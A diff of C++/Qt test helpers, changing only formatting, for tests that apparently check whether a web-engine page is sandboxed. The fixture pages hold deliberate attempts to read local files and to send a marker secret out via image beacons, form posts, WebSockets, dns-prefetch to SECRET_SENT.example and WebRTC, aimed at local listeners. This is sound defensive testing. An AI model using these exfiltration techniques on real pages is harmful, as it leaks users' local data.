@@ -38,7 +38,8 @@ struct TSite {
 // Counts what reaches a TCP and a UDP port on 127.0.0.1.
 class TListeners {
 public:
-    TListeners() {
+    TListeners()
+    {
         tcp_.listen(QHostAddress::AnyIPv4);
         udp_.bind(QHostAddress::AnyIPv4);
         QObject::connect(&tcp_, &QTcpServer::newConnection, [this] {
@@ -57,7 +58,8 @@ public:
     quint16 TcpPort() const { return tcp_.serverPort(); }
     quint16 UdpPort() const { return udp_.localPort(); }
     // Whether a connection and a datagram of the test's own, to host, are heard.
-    bool Hear(const QString& host = QStringLiteral("127.0.0.1")) {
+    bool Hear(const QString& host = QStringLiteral("127.0.0.1"))
+    {
         const int before = received;
         QTcpSocket socket;
         socket.connectToHost(QHostAddress(host), TcpPort());
@@ -71,15 +73,20 @@ private:
     QUdpSocket udp_;
 };
 
-inline bool WriteFile(const QString& path, const QByteArray& bytes) {
+inline bool WriteFile(const QString& path, const QByteArray& bytes)
+{
     QFile file(path);
     return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
 }
 
-inline QString FileUrl(const QString& path) { return QUrl::fromLocalFile(path).toString(QUrl::FullyEncoded); }
+inline QString FileUrl(const QString& path)
+{
+    return QUrl::fromLocalFile(path).toString(QUrl::FullyEncoded);
+}
 
 // Writes the site under root (a fresh folder).
-inline TSite MakeSite(const QString& root) {
+inline TSite MakeSite(const QString& root)
+{
     TSite site{root + QStringLiteral("/site"), root + QStringLiteral("/other"), {}};
     QDir().mkpath(site.folder);
     QDir().mkpath(site.other + QStringLiteral("/folder"));
@@ -98,7 +105,8 @@ inline TSite MakeSite(const QString& root) {
         {site.folder + QStringLiteral("/data.json"), QStringLiteral("SECRET_JSON"), QStringLiteral("{\"k\": \"%1\"}")},
         {site.other + QStringLiteral("/secret.txt"), QStringLiteral("SECRET_OTHER"), QStringLiteral("%1")},
         {site.other + QStringLiteral("/secret.htm"), QStringLiteral("SECRET_FRAME"), QStringLiteral("<p>%1</p>")},
-        {site.other + QStringLiteral("/folder/SECRET_LISTED.txt"), QStringLiteral("SECRET_LISTED"), QStringLiteral("%1")},
+        {site.other + QStringLiteral("/folder/SECRET_LISTED.txt"), QStringLiteral("SECRET_LISTED"),
+         QStringLiteral("%1")},
     };
     for (const auto& [path, secret, text] : secrets) {
         WriteFile(path, text.arg(secret).toUtf8());
@@ -136,7 +144,8 @@ function settled(extraMs) {
 
 // The page's own files: its image, style sheet and script, and its frame, whose own image
 // loads (the frame posts its width).
-inline QString OwnFilesMarkup() {
+inline QString OwnFilesMarkup()
+{
     return QStringLiteral(
         "<link rel=stylesheet href='style.css'><script src='own.js'></script>"
         "<script>window.frameReport = ''; addEventListener('message', e => { frameReport = e.data; });</script>"
@@ -147,7 +156,8 @@ inline QString OwnFilesMarkup() {
 // program's page at programPage and of the document at documentUrl; before goes first in its
 // body.
 inline QString ReadsPage(const TSite& site, const QString& programPage, const QString& documentUrl,
-                         const QString& before = {}) {
+                         const QString& before = {})
+{
     QString script = QString::fromLatin1(kAttemptScript) + QStringLiteral(R"JS(
 attempt('fetch of a file beside the page', () => fetch('beside.txt').then(asText));
 attempt('XMLHttpRequest of a file in another folder', () => {
@@ -200,7 +210,8 @@ settled();
 // A page whose script tries every way out to 127.0.0.1: a TCP port and a UDP port, carrying
 // the word SECRET_SENT; a WebSocket to the same port on otherHost; and WebRTC servers named
 // by a host name that carries the word.
-inline QString ExitsPage(quint16 tcpPort, quint16 udpPort, const QString& otherHost) {
+inline QString ExitsPage(quint16 tcpPort, quint16 udpPort, const QString& otherHost)
+{
     QString markup = QStringLiteral(R"HTML(<html><HEAD><title>exits</title>
 <link rel="preconnect" href="http://127.0.0.1:@TCP@/">
 <link rel="dns-prefetch" href="http://SECRET_SENT.example/">
@@ -210,7 +221,8 @@ inline QString ExitsPage(quint16 tcpPort, quint16 udpPort, const QString& otherH
 <img src="http://127.0.0.1:@TCP@/img?d=SECRET_SENT">
 <iframe name=sink></iframe>
 <form id=form method=post action="http://127.0.0.1:@TCP@/form" target=sink><input name=d value=SECRET_SENT></form>
-<script>)HTML") + QString::fromLatin1(kAttemptScript) + QStringLiteral(R"JS(
+<script>)HTML") + QString::fromLatin1(kAttemptScript) +
+                     QStringLiteral(R"JS(
 const ws = url => new Promise((resolve, reject) => {
   const s = new WebSocket(url); s.onopen = () => resolve('open'); s.onerror = () => reject('error'); });
 attempt('a WebSocket', () => ws('ws://127.0.0.1:@TCP@/?d=SECRET_SENT'));
@@ -241,7 +253,8 @@ settled(1000);
 }
 
 // Runs script in page and gives its value.
-inline QVariant Eval(QWebEnginePage* page, const QString& script, int timeoutMs = 30000) {
+inline QVariant Eval(QWebEnginePage* page, const QString& script, int timeoutMs = 30000)
+{
     std::optional<QVariant> result;
     page->runJavaScript(script, [&](const QVariant& v) { result = v; });
     EXPECT_TRUE(testsupport::WaitFor([&] { return result.has_value(); }, timeoutMs)) << script.toStdString();
@@ -249,13 +262,15 @@ inline QVariant Eval(QWebEnginePage* page, const QString& script, int timeoutMs 
 }
 
 // The results of a page's attempts, once all have settled.
-inline QJsonObject Results(QWebEnginePage* page, int timeoutMs = 30000) {
+inline QJsonObject Results(QWebEnginePage* page, int timeoutMs = 30000)
+{
     EXPECT_TRUE(testsupport::WaitFor([&] { return page->title() == QStringLiteral("done"); }, timeoutMs));
     return QJsonDocument::fromJson(Eval(page, QStringLiteral("JSON.stringify(results)")).toString().toUtf8()).object();
 }
 
 // No attempt of the page read anything, and no secret shows in the results or the page.
-inline void ExpectNothingRead(QWebEnginePage* page, const TSite& site) {
+inline void ExpectNothingRead(QWebEnginePage* page, const TSite& site)
+{
     const QJsonObject results = Results(page);
     ASSERT_FALSE(results.isEmpty());
     for (auto it = results.begin(); it != results.end(); ++it)
